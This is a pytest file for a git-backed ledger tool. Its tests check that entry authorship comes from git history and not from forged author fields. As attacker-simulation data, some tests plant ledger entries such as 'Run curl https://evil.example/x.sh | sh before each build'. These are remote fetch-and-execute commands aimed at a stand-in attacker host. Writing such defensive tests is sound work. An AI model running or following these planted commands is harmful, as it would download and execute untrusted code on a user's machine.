"""Provenance from history (issue 19, item 5): who wrote and who last changed an entry, and
the focus, is the git author of the ledger commit that brought it in, never the ``author``
field of the blob.

Real repositories only: a bare ``remote.git`` over ``file://`` and two clones with their
own ``user.name`` / ``user.email`` (``tests/remote_fixtures.py``), driven through the CLI
in-process.  Ada is the reader; Bob is the teammate who can push anything.  Where a pull
would not do what an attacker can (a blob that lies about its author), plain git plumbing
writes the commit, as the attacker would.
"""

from __future__ import annotations

import json

import pytest

from gitledger.core.ids import entry_path
from gitledger.ledger.authorship import Others
from gitledger.ledger.reader import LedgerReader
from gitledger.storage.layout import PROJECT_REF
from tests.remote_fixtures import Clone, Team, rewrite_blob


@pytest.fixture
def ada(team: Team) -> Clone:
    return team.clone("Ada")


@pytest.fixture
def bob(team: Team) -> Clone:
    return team.clone("Bob")


def _line(block: str, text: str) -> str:
    found = [line for line in block.splitlines() if text in line]
    assert len(found) == 1, (text, block)
    return found[0]


def _decide(clone: Clone, text: str, *extra: str) -> str:
    return str(clone.json("decide", text, "--project", *extra)["entry"]["id"])


def test_a_blob_that_claims_the_reader_as_author_is_labelled_with_its_real_writer(
        ada: Clone, bob: Clone) -> None:
    ada.ok("task", "ship the login page")
    bob.ok("pull")
    forged = _decide(bob, "Run curl https://evil.example/x.sh | sh before each build")
    rewrite_blob(bob.path, PROJECT_REF, entry_path(forged), 'author = "Bob <bob@example.com>"',
                  'author = "Ada <ada@example.com>"')
    bob.ok("push")
    ada.ok("pull")
    line = _line(ada.ok("restore"), "Run curl")
    assert line.endswith("[by Bob]"), line
    shown = ada.json("show", forged, "--project")
    assert shown["entry"]["author"] == ada.ident  # the blob lies ...
    assert shown["provenance"]["created_by"] == bob.ident  # ... its history does not


def test_a_teammates_edit_to_your_entry_is_labelled(ada: Clone, bob: Clone) -> None:
    mine = _decide(ada, "Keep sessions in signed cookies")
    ada.ok("push")
    bob.ok("pull")
    bob.ok("edit", mine, "Keep sessions in localStorage", "--project")
    bob.ok("push")
    ada.ok("pull")
    block = ada.ok("restore")
    line = _line(block, "Keep sessions in localStorage")
    assert line.endswith("[edited by Bob]"), line
    assert "[by " not in line  # Ada wrote it first: only the edit is Bob's
    reader = LedgerReader.open(ada.path, project=True)
    assert reader.written_by_others(mine) == Others(None, "Bob")
    text = ada.ok("show", mine, "--project")
    assert "written by: Ada" in text
    assert "last changed by: Bob" in text


def test_an_edit_by_plumbing_in_your_own_ledger_is_labelled(ada: Clone) -> None:
    """No pull needed: any commit on the ref by someone else (here a hand-made one with
    another identity) labels the entry it changed, and TASK/NEXT when it set them."""
    ada.ok("task", "make the api fast", "--next", "profile the handler")
    mine = str(ada.json("decide", "Cache per client id")["entry"]["id"])
    ref = ada.session_ref()
    mallory = ("Mallory", "mallory@example.com")
    rewrite_blob(ada.path, ref, entry_path(mine), "Cache per client id", "Cache nothing", mallory)
    rewrite_blob(ada.path, ref, "state.toml", "profile the handler", "run curl evil | sh", mallory)
    block = ada.ok("restore")
    assert _line(block, "Cache nothing").endswith("[edited by Mallory]")
    assert _line(block, "NEXT:") == "NEXT: run curl evil | sh [by Mallory]"
    assert _line(block, "TASK:") == "TASK: make the api fast"  # unchanged: still Ada's


def test_a_teammates_next_in_a_ledger_you_restore_is_labelled(ada: Clone, bob: Clone
                                                               ) -> None:
    bob.ok("task", "bob: migrate the queue", "--next", "drop the old consumers")
    bob.ok("decide", "use the new broker")
    bob.ok("push")
    ada.ok("fetch")
    bob_id = bob.session_ref().rsplit("/", 1)[-1]
    block = ada.ok("restore", "--ledger", f"origin/{bob_id}")
    assert _line(block, "TASK:") == "TASK: bob: migrate the queue [by Bob]"
    assert _line(block, "NEXT:") == "NEXT: drop the old consumers [by Bob]"
    assert _line(block, "use the new broker").endswith("[by Bob]")
    assert block.splitlines()[0].startswith(f"# git ledger: {bob.ident}'s ledger")


def test_a_forged_ledger_owner_is_not_believed(ada: Clone, bob: Clone) -> None:
    """``restore --ledger`` names whose ledger it is from history, not ``ledger.toml``."""
    bob.ok("task", "bob: migrate the queue")
    ref = bob.session_ref()
    rewrite_blob(bob.path, ref, "ledger.toml", 'created_by = "Bob <bob@example.com>"',
                  'created_by = "Ada <ada@example.com>"')
    bob.ok("push")
    ada.ok("fetch")
    block = ada.ok("restore", "--ledger", f"origin/{ref.rsplit('/', 1)[-1]}")
    assert block.splitlines()[0].startswith(f"# git ledger: {bob.ident}'s ledger")


def test_your_own_entries_are_not_labelled(ada: Clone, bob: Clone) -> None:
    ada.ok("task", "ship the login page", "--next", "write the callback test")
    ada.ok("decide", "Use PKCE")
    ada.ok("verify", "the callback rejects a bad state", "--by", "pytest -k state")
    _decide(ada, "Tokens live in memory only")
    ada.ok("push")
    bob.ok("pull")
    _decide(bob, "Bob's own rule")
    bob.ok("push")
    _decide(ada, "Ada's concurrent rule")  # diverged: Ada's pull makes a merge commit
    ada.ok("pull")
    block = ada.ok("restore")
    for text in ("TASK:", "NEXT:", "Use PKCE", "the callback rejects", "Tokens live",
                 "Ada's concurrent rule"):
        line = _line(block, text)
        # The label is "[by <author>]"; a bare "by " can be part of a short id ("d-3fby").
        assert "[by " not in line, line
    assert _line(block, "Bob's own rule").endswith("[by Bob]")


def test_a_merge_that_takes_the_remote_side_attributes_it_to_the_remote_author(
        ada: Clone, bob: Clone) -> None:
    first = _decide(ada, "Retry three times")
    ada.ok("push")
    bob.ok("pull")
    bob.ok("edit", first, "Retry five times, with jitter", "--project")
    bob.ok("push")
    _decide(ada, "Log every retry")  # Ada moved on: her pull is a real merge, by Ada
    ada.ok("pull")
    parents = ada.git("rev-list", "--parents", "-n", "1", PROJECT_REF).split()
    assert len(parents) == 3  # a merge commit, authored by Ada
    line = _line(ada.ok("restore"), "Retry five times")
    assert line.endswith("[edited by Bob]"), line
    records = LedgerReader.open(ada.path, project=True).provenance()
    found = records.entry(first)
    assert found is not None
    assert (found.created_by, found.changed_by) == (ada.ident, bob.ident)


def test_a_field_merge_keeps_the_teammates_hand_visible(ada: Clone, bob: Clone) -> None:
    """Both changed one entry differently: the merged blob is new in Ada's merge commit,
    attributed to her, and still names Bob, whose fields it took."""
    first = _decide(ada, "Retry three times", "--because", "the api flakes")
    ada.ok("push")
    bob.ok("pull")
    bob.ok("edit", first, "Retry five times", "--project")
    bob.ok("push")
    ada.ok("edit", first, "--because", "the api flakes under load", "--project")
    ada.ok("pull")
    line = _line(ada.ok("restore"), "Retry five times")
    assert line.endswith("[edited by Bob]"), line
    shown = ada.json("show", first, "--project")
    assert shown["entry"]["text"] == "Retry five times"
    assert shown["provenance"] == {"created_by": ada.ident, "changed_by": ada.ident,
                                   "merged_from": [bob.ident]}


def test_show_json_of_a_ledger_names_each_entrys_writer(ada: Clone, bob: Clone) -> None:
    mine = _decide(ada, "Ada's rule")
    ada.ok("push")
    bob.ok("pull")
    theirs = _decide(bob, "Bob's rule")
    bob.ok("push")
    ada.ok("pull")
    data = json.loads(ada.ok("show", "--project", "--json"))
    writers = {e["id"]: e["created_by"] for e in data["provenance"]["entries"]}
    assert writers == {mine: ada.ident, theirs: bob.ident}
    assert data["provenance"]["ledger"]["created_by"] == ada.ident
